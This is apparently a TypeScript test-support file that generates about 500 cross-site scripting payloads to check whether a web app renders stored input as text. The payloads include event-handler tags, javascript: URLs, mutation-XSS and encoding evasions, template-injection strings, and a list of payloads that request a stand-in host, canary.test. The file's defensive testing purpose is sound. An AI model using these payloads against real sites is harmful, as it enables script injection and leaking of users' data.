import { howMany } from '../../../server/testing/how-many.ts';

/** Scripts with which a payload reports that it runs. `watch` (canary.ts) defines `ran` in every page. */
const ACTIONS = [
  'ran()',
  'alert(1)',
  "self['ran']()",
  'ran``',
  '[1].map(ran)',
  'top.ran()',
  'ran?.call()',
];

const list = (text: string) => text.trim().split(/\s*¦\s*|\n\s*/);

/** Image with a handler that runs at once. § takes the place of the action here and in all other payloads. */
const IMAGE = '<img src=x onerror=§>';

/** Beginnings of elements with an event handler, which runs by itself or on a touch; the action follows. */
const HANDLERS = list(`
  img src=x onerror ¦ IMG SRC=X ONERROR ¦ img/src=x/onerror ¦ img src onerror ¦ img srcset=x onerror ¦ image src=x onerror
  img src=data: onerror ¦ img src=x alt="" onerror ¦ img src=x:x onerror ¦ picture><img srcset=x onerror ¦ input type=image src=x onerror
  svg onload ¦ sVg OnLoAd ¦ svg/onload ¦ svg x onload ¦ svg><g onload ¦ svg><image href=x onerror ¦ svg><image xlink:href=x onerror
  svg><animate attributeName=x dur=1s onbegin ¦ svg><animate attributeName=x dur=1ms onend ¦ svg><set attributeName=x onbegin
  svg><animate attributeName=x dur=1ms repeatCount=2 onrepeat ¦ svg><animateTransform attributeName=transform dur=1s onbegin
  svg><animateMotion dur=1s onbegin ¦ svg><discard onbegin ¦ svg tabindex=1 autofocus onfocus ¦ svg><a tabindex=1 autofocus onfocus
  svg><foreignObject><img src=x onerror ¦ svg><desc><img src=x onerror ¦ svg><title><img src=x onerror ¦ svg><style onload
  math><mtext><img src=x onerror ¦ math><mi><svg onload ¦ math><mn><img src=x onerror ¦ math tabindex=1 autofocus onfocus
  math><annotation-xml encoding=text/html><img src=x onerror ¦ body onload ¦ body onpageshow ¦ body onfocus ¦ body onhashchange
  body onresize ¦ body onscroll ¦ body onmessage ¦ body onpopstate ¦ body onerror ¦ body onbeforeunload ¦ body onpagehide ¦ frameset onload
  iframe onload ¦ iframe src=about:blank onload ¦ iframe srcdoc=x onload ¦ object data=x onerror ¦ embed src=/ onload ¦ embed src=x onerror
  link rel=stylesheet href=x onerror ¦ link rel=preload as=image href=x onerror ¦ script src=x onerror ¦ script src=data:, onload
  style onload ¦ details open ontoggle ¦ details/open/ontoggle ¦ p popover onbeforetoggle ¦ dialog open onclose ¦ video src=x onerror
  audio src=x onerror ¦ video src=x onloadstart ¦ audio src=x onloadstart ¦ video><source onerror ¦ audio><source src=x onerror
  video src=x autoplay onplay ¦ video controls><track default src=x onerror ¦ input autofocus onfocus ¦ input autofocus onfocusin
  select autofocus onfocus ¦ textarea autofocus onfocus ¦ button autofocus onfocus ¦ a href=x autofocus onfocus ¦ form oninput
  form><input autofocus onfocus ¦ p contenteditable autofocus onfocus ¦ p tabindex=1 autofocus onfocusin ¦ x-y tabindex=1 autofocus onfocus
  input autofocus onblur ¦ input oninvalid ¦ form onsubmit ¦ form onreset ¦ form onformdata ¦ marquee onstart ¦ marquee loop=1 onfinish
  marquee behavior=alternate onbounce ¦ p style="animation:rise 1s" onanimationstart ¦ p style="animation:rise 1ms" onanimationend
  p style="animation:rise 1s" onwebkitanimationstart ¦ p style="transition:all 1s" ontransitionend ¦ p onclick ¦ p ondblclick ¦ p onmouseover
  p onmouseenter ¦ p onpointerdown ¦ p onpointerrawupdate ¦ p onwheel ¦ p ontouchstart ¦ p oncontextmenu ¦ p oncopy ¦ p onpaste ¦ p ondragstart
  p onkeydown ¦ p onselectstart ¦ p onscrollend ¦ p oncontentvisibilityautostatechange ¦ x onclick ¦ template shadowrootmode=open><img src=x onerror
`);

/** Elements that contain an address; @ takes the place of the address. */
const LINKS = list(`
  <a href="@">x</a> ¦ <A HREF='@'>x</A> ¦ <a href=@>x ¦ <area href="@"> ¦ <iframe src="@"> ¦ <object data="@"> ¦ <embed src="@"> ¦ <frame src="@">
  <form action="@"><button autofocus> ¦ <form><button formaction="@">x ¦ <form><input type=submit formaction="@"> ¦ <base href="@//">
  <svg><a href=@><text y=9>x</a> ¦ <svg><a xlink:href="@"><text y=9>x ¦ <svg><a><animate attributeName=href values=@> ¦ <math href="@">x
  <svg><a><set attributeName=href to=@> ¦ <svg><script href="@"/> ¦ <meta http-equiv=refresh content="0;url=@"> ¦ <video poster="@">
  <img src="@"> ¦ <img lowsrc="@"> ¦ <body background="@"> ¦ <table background="@"> ¦ <bgsound src="@"> ¦ <p style="background:url(@)">
  <style>@import'@'</style> ¦ <link rel=stylesheet href="@"> ¦ <portal src="@"> ¦ <isindex action="@" type=image>
`);

const SCRIPTS = list(`
  <script>§</script> ¦ <ScRiPt>§</sCrIpT> ¦ <script/x>§</script> ¦ <script >§</script > ¦ <script type=module>§</script> ¦ <script async>§</script>
  <script>§ ¦ <script>§<!-- ¦ <script><!--§--></script> ¦ <script>/*<!--*/§</script> ¦ <svg><script>§ ¦ <math><script>§</script>
  <svg><script>/*&#42;/§</script> ¦ <script src="data:text/javascript,§"></script> ¦ <script src=data:,§></script> ¦ <scr<script>ipt>§</scr</script>ipt>
  <<script>§//<</script> ¦ <ſcript>§</ſcript> ¦ <ｓｃｒｉｐｔ>§</ｓｃｒｉｐｔ> ¦ <ıframe src="javascript:§"> ¦ <ſvg onload=§> ¦ <ımg src=x onerror=§>
  <iframe srcdoc="<script>parent.§</script>"> ¦ <iframe srcdoc="<img src=x onerror=parent.§>"> ¦ <iframe srcdoc="&lt;svg onload=§&gt;">
  <p style="width:expression(§)"> ¦ <style>*{x:expression(§)}</style> ¦ <style>*{-moz-binding:url(data:,§)}</style> ¦ <button popovertarget=x onclick=§>x
`);

/** Elements whose content is text until a second parser reads it as markup. */
const HOLDERS = list(
  `noscript ¦ style ¦ xmp ¦ title ¦ textarea ¦ iframe ¦ noembed ¦ noframes ¦ template`,
);
const MUTATIONS = list(`
  <svg></p><style><a id="</style>${IMAGE}"> ¦ <math><mtext><table><mglyph><style>${IMAGE} ¦ <form><math><mtext></form><mglyph><style></math>${IMAGE}
  <svg><style>${IMAGE}</style> ¦ <math><style>${IMAGE} ¦ <svg><title><style><a id="</style>${IMAGE}"> ¦ <!-->${IMAGE}--> ¦ <!--->${IMAGE}-->
  <!--<img src="-->${IMAGE}"> ¦ <!--x--!>${IMAGE} ¦ <![CDATA[${IMAGE}]]> ¦ <svg><![CDATA[>${IMAGE}]]> ¦ <?x ${IMAGE}?> ¦ <!x ${IMAGE}> ¦ </x ${IMAGE}>
  <table><a><table>${IMAGE} ¦ <select><style></select>${IMAGE} ¦ <listing>&lt;img src=x onerror=§&gt;</listing> ¦ <b x="<script>§</script>
  <p id="&quot;>${IMAGE}"> ¦ <p id='&#39;>${IMAGE}'> ¦ <p id=\`\`onclick=§> ¦ <plaintext>${IMAGE} ¦ <svg><p>${IMAGE} ¦ <math><p><svg onload=§>
`);

/** Texts that end the context into which a payload is inserted, such as an attribute or a comment. */
const ENDS = list(`
  " ¦ ' ¦ \` ¦ > ¦ "> ¦ '> ¦ \`> ¦ "/> ¦ '/> ¦ \\"> ¦ \\'> ¦ &quot;> ¦ --> ¦ --!> ¦ ]]> ¦ ?> ¦ %> ¦ }}> ¦ */> ¦ ")> ¦ '>">
  </title> ¦ </textarea> ¦ </option></select> ¦ </script> ¦ </style> ¦ </svg> ¦ </math> ¦ </xmp> ¦ </noscript> ¦ </iframe> ¦ </template>
  </noembed> ¦ </table> ¦ </button> ¦ </a> ¦ </h1> ¦ </li></ul> ¦ </dialog> ¦ "></a> ¦ '></title> ¦ "--></style></script>
`);
const ATTRIBUTES = list(
  `onerror ¦ onload ¦ autofocus onfocus ¦ onclick ¦ onmouseover ¦ style=animation:rise onanimationstart`,
);

/** Separators between the words of an element, and characters that browsers may take for a space. */
const SPACES = list(`/ ¦ // ¦ /x/ ¦ + ¦ %20 ¦ %09 ¦ %0a ¦ &#32; ¦ &Tab; ¦ &NewLine; ¦ /**/`).concat(
  [...'\u00a0\u1680\u2003\u2028\u2029\u202f\u205f\u3000\u200c\u200d\u00b7'],
);

/** Other spellings of the brackets < and >, which some decoders turn back into brackets. */
const BRACKETS = list(String.raw`
  &lt; &gt; ¦ &LT; &GT; ¦ &lt &gt ¦ &#60; &#62; ¦ &#0060 &#0062 ¦ &#x3c; &#x3e; ¦ &#X3C &#X3E ¦ &amp;lt; &amp;gt; ¦ %3C %3E ¦ %3c %3e ¦ %253C %253E
  \x3c \x3e ¦ \u003c \u003e ¦ \u{3c} \u{3e} ¦ \74 \76 ¦ \3c \3e ¦ +ADw- +AD4- ¦ ＜ ＞ ¦ ﹤ ﹥ ¦ ‹ › ¦ ¼ ¾ ¦ &nvlt; &nvgt;
`);

const ADDRESSES = list(String.raw`
  javascript:§ ¦ JaVaScRiPt:§ ¦ javascript://%0a§ ¦ javascript:/**/§ ¦ javascript:void §;//http:// ¦ java&#9;script:§ ¦ java&#10;script:§
  java&Tab;script:§ ¦ java&NewLine;script:§ ¦ javascript&colon;§ ¦ javascript&#58;§ ¦ javascript&#x3a;§ ¦ &#106;avascript:§ ¦ &#x6a;avascript:§
  &#0000106avascript:§ ¦ javascript :§ ¦ javascript：§ ¦ javascript%3a§ ¦ %6aavascript:§ ¦ java\script:§ ¦ \u006aavascript:§ ¦ ｊavascript:§
  vbscript:§ ¦ livescript:§ ¦ feed:javascript:§ ¦ view-source:javascript:§ ¦ jar:javascript:§ ¦ blob:javascript:§ ¦ data:text/javascript,§
  data:text/html,<script>§</script> ¦ data:text/html;charset=utf-8,<svg onload=§> ¦ data:image/svg+xml,<svg onload=§> ¦ data:,<svg onload=§>
  data:application/xhtml+xml,<svg onload=§> ¦ url(javascript:§) ¦ x" href="javascript:§
`);

/** Payloads for texts that a program inserts into scripts, templates, styles or objects. */
const CODE = [
  ...list(String.raw`
    ';§;// ¦ ";§;// ¦ \';§;// ¦ \";§;// ¦ '-§-' ¦ "-§-" ¦ '+§+' ¦ "+§+" ¦ ');§;// ¦ ");§;// ¦ '});§;// ¦ "}];§;// ¦ */§/* ¦ -->§<!-- ¦ ,§, ¦ ;§; ¦ ||§||
    {{§}} ¦ {{{§}}} ¦ {§} ¦ <%= § %> ¦ <%- § %> ¦ <?= § ?> ¦ <# § #> ¦ #{§} ¦ *{§} ¦ @{§} ¦ @(§) ¦ [[§]] ¦ [(§)] ¦ {%§%} ¦ {{=§}} ¦ :{§}: ¦ $(§) ¦ %{§}
    {{constructor.constructor('§')()}} ¦ {{$on.constructor('§')()}} ¦ [].map.constructor('§')() ¦ Function('§')() ¦ eval('§') ¦ setTimeout('§')
    import('data:text/javascript,§') ¦ onerror=eval;throw'=§' ¦ {"__html":"${IMAGE}"} ¦ {"$$typeof":"react.element","onload":"§"}
    {"__proto__":{"onload":"§"}} ¦ {toString(){§}} ¦ x;}*{x:expression(§)} ¦ '">><marquee>${IMAGE}</marquee> ¦ "'></x>${IMAGE}<!--
  `),
  '`;§;//',
  '`-§-`',
  '${§}',
  '${{§}}',
  '${`${§}`}',
  'jaVasCript:/*`/*"/**/(/* */oNcliCk=§ )//',
  'javascript:"/*\'/*`/*--></script><svg/onload=§>',
];

const SHAPES = [
  ...HANDLERS.map((element) => `<${element}=§>`),
  ...SCRIPTS,
  ...LINKS.map((link) => link.replace(/@(?!import)/, 'javascript:§')),
  ...HOLDERS.map((name) => `<${name}><p title="</${name}>${IMAGE}">`),
  ...MUTATIONS,
  ...ENDS.map((end) => end + IMAGE),
  ...['"', "'", '`'].flatMap((end) => ATTRIBUTES.map((name) => `${end} ${name}=§ x=${end}`)),
  ...SPACES.map((space) => `<img${space}src=x${space}onerror=§>`),
  ...BRACKETS.map((pair) => pair.replace(' ', 'img src=x onerror=§')),
  '<img src=x onerror\u00a0=§>',
  '<img src=x onerror=§//',
  ...ADDRESSES,
  ...CODE,
];

/** Payloads that send a request to another server, which could leak data. */
const CALLS = list(`
  <img src=//canary.test/i> ¦ <img srcset=//canary.test/i> ¦ <script src=//canary.test></script> ¦ <link rel=stylesheet href=//canary.test/x.css>
  <link rel=prefetch href=//canary.test> ¦ <base href=//canary.test/> ¦ <meta http-equiv=refresh content="0;url=//canary.test"> ¦ <a ping=//canary.test>
  <style>@import'//canary.test'</style> ¦ <iframe src=//canary.test> ¦ <video poster=//canary.test> ¦ <audio src=//canary.test autoplay> ¦ <object data=//canary.test>
  "}*{background:url(//canary.test/)} ¦ x;background:url(//canary.test/) ¦ <svg><use href=//canary.test/#x> ¦ <svg><image href=//canary.test/i>
  //canary.test/ ¦ https://canary.test/ ¦ https:canary.test ¦ \\\\canary.test ¦ /\\canary.test
`);

const NAME_MAX = 80;
const COUNT = 500;

/**
 * All shapes of payloads with an action: first each shape with one action, then each shape with the next action, and so
 * on.
 */
const SHAPED = ACTIONS.flatMap((_, round) =>
  SHAPES.map((shape, at) =>
    shape.replaceAll('§', () => ACTIONS[(at + round) % ACTIONS.length] ?? ''),
  ),
);

/**
 * 500 payloads that run, or send a request, unless the app treats them as text. They have the form in which the app
 * stores them.
 */
export const ALL_PAYLOADS: readonly string[] = [...new Set([...CALLS, ...SHAPED])]
  .filter((payload) => payload.length <= NAME_MAX)
  .slice(0, COUNT);

/** Payloads that the journeys try: all in `npm run test:long`, otherwise every fifth, which includes every kind. */
export const PAYLOADS = ALL_PAYLOADS.filter((_, at) => at % howMany(5, 1) === 0);

/** Number of payloads that differ from each other in more than the action that they attempt. */
export const SHAPES_OF_PAYLOADS = new Set(
  ALL_PAYLOADS.map((payload) =>
    ACTIONS.toSorted((a, b) => b.length - a.length).reduce(
      (text, action) => text.replaceAll(action, '§'),
      payload,
    ),
  ),
).size;
